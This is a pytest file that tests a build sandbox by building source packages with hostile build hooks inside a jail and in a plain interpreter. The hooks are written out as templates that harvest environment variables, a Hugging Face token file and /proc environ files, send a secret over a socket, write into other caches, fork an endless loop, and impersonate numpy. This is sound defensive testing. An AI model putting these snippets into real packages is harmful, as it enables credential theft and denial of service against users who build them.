"""Sources that attack while they are built: they run in a jail, and give one wheel or nothing.

The control builds the same sources as one does without this project: their backend is called in a
plain interpreter.
"""

from __future__ import annotations

import subprocess
import zipfile
from pathlib import Path

import pytest

from envhub_sandbox.dependencies import interpreters
from envhub_sandbox.dependencies.builds import build
from envhub_sandbox.dependencies.builds.build import build_wheels
from envhub_sandbox.dependencies.resolutions import lock_for
from envhub_sandbox.errors import DependencyError
from tests.attacks.harness import Arena, kill_named, new_alias, pids_named, token
from tests.attacks.network.listeners import TCP, listening
from tests.support.packages.sdists import backend, make_sdist
from tests.support.processes import eventually

FAMILY = "Sources that are built"
_CONTROL_S = 120.0

LOOT = """
def further():
    import os
    found = [repr(dict(os.environ))]
    for path in {paths!r}:
        try:
            found.append(open(path, errors="replace").read())
        except OSError as error:
            found.append(str(error))
    return {{"hostile/loot.txt": "\\n".join(found)}}
"""
CALL = """
def further():
    import socket
    try:
        with socket.create_connection(("127.0.0.1", {port}), 10) as peer:
            peer.sendall({secret!r}.encode())
    except OSError:
        pass
    return {{}}
"""
WRITE = """
def further():
    import os
    for path in {paths!r}:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write("hostile")
        except OSError:
            pass
    return {{}}
"""
SPIN = """
def further():
    import ctypes, os
    ctypes.CDLL(None).prctl(15, {alias!r}.encode())
    os.fork()
    while True:
        pass
"""


@pytest.fixture(autouse=True)
def _profile(arena: Arena, other_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Builds are confined as the arena says, and keep nothing of another test's."""
    monkeypatch.setenv(build.PROFILE_VARIABLE, arena.profile)


def control(folder: Path, files: dict[str, str]) -> Path:
    """The folder with the wheel, after a build in a plain interpreter."""
    assert building(folder / "control", files).wait(_CONTROL_S) == 0
    return folder / "control"


def building(folder: Path, files: dict[str, str]) -> subprocess.Popen[bytes]:
    """Build them in a plain interpreter; the wheel comes to lie in the folder."""
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    command = [interpreters.own().path, "-c", "import backend; backend.build_wheel('.')"]
    return subprocess.Popen(command, cwd=folder)


def built(folder: Path, files: dict[str, str]) -> tuple[Path | None, str]:
    """The wheel that a jail makes of them, or why there is none."""
    source = make_sdist(folder, "hostile", files=files)
    try:
        [wheel] = build_wheels([source], interpreters.own(), lambda line: None, lock_for)
    except DependencyError as error:
        return None, str(error)
    return wheel, ""


def read(wheel: Path | None) -> str:
    """All texts of a wheel."""
    if wheel is None:
        return ""
    with zipfile.ZipFile(wheel) as archive:
        return "\n".join(archive.read(name).decode() for name in archive.namelist())


def test_the_token(
    arena: Arena, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is neither among the variables, nor in a file, nor in another process's."""
    secrets = [token(), token()]
    monkeypatch.setenv("HF_TOKEN", secrets[0])
    file = home / ".cache" / "huggingface" / "token"
    file.parent.mkdir(parents=True)
    file.write_text(secrets[1])
    paths = [str(file), "/proc/1/environ", *(f"/proc/{n}/environ" for n in range(2, 50))]
    files = backend("hostile", further=LOOT.format(paths=paths))
    stolen = read(control(tmp_path, files) / "hostile-1.0-py3-none-any.whl")
    assert all(secret in stolen for secret in secrets), "the control failed"
    wheel, why = built(tmp_path, files)
    assert wheel is not None, why
    for secret, title in zip(secrets, ("a variable", "the Hub's file"), strict=True):
        arena.judge(f"read the token: {title}", "succeeds", secret in read(wheel), why)


def test_the_network(arena: Arena, tmp_path: Path) -> None:
    """Nothing answers, not even on loopback."""
    with listening(**TCP) as listener:
        words = {name: token() for name in ("control", "inside")}
        sources = {
            name: backend("hostile", further=CALL.format(port=listener.port, secret=word))
            for name, word in words.items()
        }
        control(tmp_path, sources["control"])
        wheel, why = built(tmp_path, sources["inside"])
        assert wheel is not None, why
        assert listener.heard(words["control"], wait=True), "the control failed"
        through = listener.heard(words["inside"], wait=False)
        arena.judge("reach the network while it is built", "succeeds", through, "")


def test_the_cache(arena: Arena, other_cache: Path, tmp_path: Path) -> None:
    """Neither wheels nor environments nor snapshots of others can be written."""
    places = [other_cache / name / "hostile" / "x" for name in ("wheels", "environments")]
    files = backend("hostile", further=WRITE.format(paths=list(map(str, places))))
    control(tmp_path, files)
    assert all(place.exists() for place in places), "the control failed"
    for place in places:
        place.unlink()
        place.parent.rmdir()
        place.parent.parent.rmdir()
    wheel, why = built(tmp_path, files)
    assert wheel is not None, why
    through = any(place.exists() for place in places)
    arena.judge("write into another package's cache", "succeeds", through, "")


def test_a_build_that_never_ends(
    arena: Arena, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is ended with all its processes, and the error says so."""
    alias = new_alias()
    files = backend("hostile", further=SPIN.format(alias=alias))
    process = building(tmp_path / "control", files)
    try:
        assert eventually(lambda: len(pids_named(alias)) == 2, _CONTROL_S), "the control failed"
    finally:
        process.kill()
        process.wait()
        kill_named(alias)
    monkeypatch.setattr(build, "WALL_S", 8.0)
    wheel, why = built(tmp_path, files)
    assert wheel is None
    assert "it was not done after 8 s, and was ended" in why
    through = not eventually(lambda: not pids_named(alias))
    kill_named(alias)
    arena.judge("build without end", "succeeds", through, why)


def test_a_wheel_of_another_name(arena: Arena, other_cache: Path, tmp_path: Path) -> None:
    """It would be installed as the package that it claims to be."""
    files = backend("numpy", further="")
    assert (control(tmp_path, files) / "numpy-1.0-py3-none-any.whl").exists(), "the control failed"
    wheel, why = built(tmp_path, files)
    assert "it is numpy 1.0, and not hostile 1.0" in why
    through = wheel is not None or bool(list(other_cache.glob("wheels/**/*.whl")))
    arena.judge("give a wheel of another name", "succeeds", through, why)
